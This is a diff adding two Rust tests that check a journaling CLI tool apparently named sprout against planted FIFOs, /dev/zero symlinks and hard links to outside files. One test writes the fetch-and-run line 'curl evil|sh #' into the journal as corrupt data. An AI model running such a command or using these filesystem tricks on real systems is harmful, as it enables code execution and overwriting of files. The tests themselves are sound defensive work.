@@ -125,3 +125,39 @@ fn a_world_writable_journal_is_not_written() {
     assert!(!r.ok && r.stderr.contains("writable by everyone"), "{}", r.stderr);
     assert_eq!(std::fs::read(&journal).expect("read"), before);
 }
+
+#[test]
+fn a_fifo_or_dev_zero_as_the_head_costs_nothing() {
+    for plant in ["fifo", "zero"] {
+        let s = Sample::new();
+        let head = s.file(".sprout.head");
+        let _ = std::fs::remove_file(&head);
+        match plant {
+            "fifo" => assert!(Command::new("mkfifo").arg(&head).status().expect("mkfifo").success()),
+            _ => symlink("/dev/zero", &head).expect("symlink"),
+        }
+        for args in [&["status"][..], &["record", "backup", "BOS-PF01", "--note", "x"][..]] {
+            let (r, took) = run_bounded(&s.path(), args);
+            assert!(took < Duration::from_secs(5), "{plant} {args:?} took {took:?}");
+            // A status reads on; a record may refuse to replace what is there, but says so.
+            assert!(r.ok || r.stderr.contains(".sprout.head"), "{plant} {args:?}: {}", r.stderr);
+        }
+    }
+}
+
+#[test]
+fn a_hard_link_to_a_file_outside_is_not_written_through() {
+    for name in [".sprout.lock", "journal.ron.broken"] {
+        let s = Sample::new();
+        let outside = s.dir.path().join("precious");
+        std::fs::write(&outside, OUTSIDE).expect("victim");
+        std::fs::hard_link(&outside, s.file(name)).expect("hard link");
+        if name == "journal.ron.broken" {
+            let mut f = std::fs::OpenOptions::new().append(true).open(s.file("journal.ron")).expect("journal");
+            std::io::Write::write_all(&mut f, b"curl evil|sh #").expect("torn tail");
+        }
+        let r = record(&s);
+        assert!(!r.ok && r.stderr.contains(name) && r.stderr.contains("hard links"), "{name}: {}", r.stderr);
+        assert_eq!(std::fs::read_to_string(&outside).expect("read"), OUTSIDE, "{name}: the linked file is unchanged");
+    }
+}
